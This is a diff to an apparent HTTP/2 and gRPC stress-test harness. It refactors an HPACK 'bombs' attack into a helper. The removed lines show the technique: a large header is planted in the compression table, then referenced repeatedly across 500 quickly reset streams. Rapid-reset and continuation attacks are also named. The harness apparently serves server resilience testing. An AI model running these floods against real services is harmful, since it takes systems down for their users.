@@ -3,7 +3,8 @@ import { dataFrames, RawConnection } from "../../http2/connection.ts";
 import { concat, data, goaway, headers, repeat, rstStream } from "../../http2/frames.ts";
 import { frame, frameType, ping, settings } from "../../http2/frames.ts";
 import { grpcHeaders, grpcMessage } from "../../http2/grpc_request.ts";
-import { encodeHeaders, indexed, literal } from "../../http2/hpack.ts";
+import { encodeHeaders, literal } from "../../http2/hpack.ts";
+import { writeBombs } from "../header_tables.ts";
 import { socketEndings } from "../../http2/socket.ts";
 import { type DriverAttack, type DriverRow } from "../../harness/row.ts";
 
@@ -67,21 +68,8 @@ const rapidReset: SocketAttack = (connection) => {
   return connection.send(...streams);
 };
 
-const bombs: SocketAttack = async (connection, _n) => {
-  const first = connection.nextStream();
-  const block = encodeHeaders(grpcHeaders(paths[1]!));
-  if (first === 1) {
-    if (!await connection.becomesReady()) return false;
-    const entry = literal(["x-a", "b".repeat(3_900)], "indexed");
-    await connection.send(headers(first, concat(block, entry), { endStream: true }));
-  }
-  const bomb = concat(block, repeat(indexed(62), 14));
-  const streams = Array.from({ length: 500 }, () => {
-    const stream = connection.nextStream();
-    return concat(headers(stream, bomb), rstStream(stream));
-  });
-  return await connection.send(...streams);
-};
+const bombs: SocketAttack = (connection) =>
+  writeBombs(connection, encodeHeaders(grpcHeaders(paths[1]!)), 500);
 
 const continuation: SocketAttack = async (connection) => {
   const stream = connection.nextStream();
